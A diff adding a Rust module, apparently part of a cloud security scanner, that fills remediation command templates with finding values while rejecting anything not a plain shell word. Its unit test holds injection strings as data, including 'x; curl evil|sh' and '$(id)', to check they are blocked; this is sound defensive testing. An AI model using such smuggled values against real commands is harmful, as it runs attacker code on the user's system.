@@ -1,0 +1,81 @@
+//! Commands filled with what a finding knows.
+//!
+//! A part comes from the scanned content, which anybody may have written: only
+//! values that a shell takes as one plain word are put into a command.
+
+use crate::model::{Part, Remedy, Step};
+
+use super::tables::{Role, Row};
+
+/// The steps of a row, with the finding's parts in their commands.
+pub(super) fn filled(row: &Row, parts: &[Part]) -> Remedy {
+    let steps = row
+        .steps
+        .iter()
+        .map(|step| Step { text: fill(&step.text, parts), command: step.command.as_ref().map(|text| fill(text, parts)) })
+        .collect();
+    Remedy { title: row.title.clone(), steps }
+}
+
+/// A role, as a step.
+pub(super) fn grant(role: &Role) -> Step {
+    let mut text = role.name.clone();
+    if !role.guid.is_empty() {
+        text.push_str(&format!(" ({})", role.guid));
+    }
+    if !role.scope.is_empty() {
+        text.push_str(&format!(" on the {}", role.scope));
+    }
+    if !role.note.is_empty() {
+        text.push_str(&format!(": {}", role.note));
+    }
+    Step { text, command: None }
+}
+
+/// `{account}` becomes the part of that name, or `<account>` if it is not known.
+fn fill(text: &str, parts: &[Part]) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(start) = rest.find('{') {
+        let (before, from) = rest.split_at(start);
+        out.push_str(before);
+        let name_length = from[1..].find(|c: char| !c.is_ascii_lowercase() && c != '-').unwrap_or(from.len() - 1);
+        if name_length > 0 && from[1 + name_length..].starts_with('}') {
+            let name = &from[1..=name_length];
+            match parts.iter().find(|part| part.name == name && is_plain_word(&part.value)) {
+                Some(part) => out.push_str(&part.value),
+                None => out.push_str(&format!("<{name}>")),
+            }
+            rest = &from[name_length + 2..];
+        } else {
+            out.push('{');
+            rest = &from[1..];
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+fn is_plain_word(text: &str) -> bool {
+    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._-@:/".contains(&byte);
+    (1..=200).contains(&text.len()) && !text.starts_with('-') && text.bytes().all(plain)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_plain_words_enter_a_command() {
+        let part = |value: &str| vec![Part { name: "account".to_owned(), value: value.to_owned(), line: None }];
+        let command = "az storage account keys renew -n {account} --query \"[].{keyId:keyId}\"";
+        for (value, filled) in [
+            ("contoso", "az storage account keys renew -n contoso --query \"[].{keyId:keyId}\""),
+            ("x; curl evil|sh", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
+            ("--yes", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
+            ("$(id)", "az storage account keys renew -n <account> --query \"[].{keyId:keyId}\""),
+        ] {
+            assert_eq!(fill(command, &part(value)), filled, "{value}");
+        }
+    }
+}
